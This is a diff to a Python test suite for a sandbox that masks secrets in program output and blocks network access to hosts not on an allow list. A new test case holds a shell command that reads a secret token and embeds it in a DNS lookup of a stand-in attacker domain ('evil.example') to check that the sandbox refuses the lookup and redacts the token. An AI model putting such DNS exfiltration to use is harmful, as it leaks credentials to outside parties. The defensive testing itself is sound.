@@ -121,6 +121,21 @@ def scrubbed_lines(t):
     t.ok(result.out == "[secret KEY]\n" and result.err_inside == "[secret KEY]\n", "as it lies in the file", result)
     code, shown = t.box.on_pty("cat", "/run/secrets/KEY", flags=flags)
     t.ok(code == 0 and shown.count(b"[secret KEY]") == 1 and b"CANARY" not in shown, "on a terminal", shown)
+    result = t.box.run("sh", "-c", "tail -n +3 /run/secrets/KEY; head -2 /run/secrets/KEY; grep -o 'CANARY-line-2' /run/secrets/KEY >&2",
+                       flags=flags)
+    t.ok("CANARY" not in result.out + result.err_inside and result.out.count("[secret KEY]") == 2, "line by line", result)
+
+
+@suite.case("A164c", "a secret in a name that is looked up, and refused", shown_control)
+def scrubbed_denials(t):
+    value = "CanaryTopSecretValue12345"
+    path = token(t, value + "\n")
+    script = "getent hosts $(cat /run/secrets/TOKEN).evil.example; true"
+    for as_json in (True, False):
+        result = t.box.run("sh", "-c", script, flags=["--secret", f"TOKEN={path}", "--allow", "good.example:443"], as_json=as_json)
+        everything = f"{result.json} {result.err}"
+        t.ok("[secret TOKEN].evil.example" in everything and value.lower() not in everything.lower(), "the refusal names it only", result)
+    t.equal(kept(t, value.lower()), [], "files outside that hold it")
 
 
 @suite.case("A166", "files that are no secrets, and many that are", "refusals have no outside")
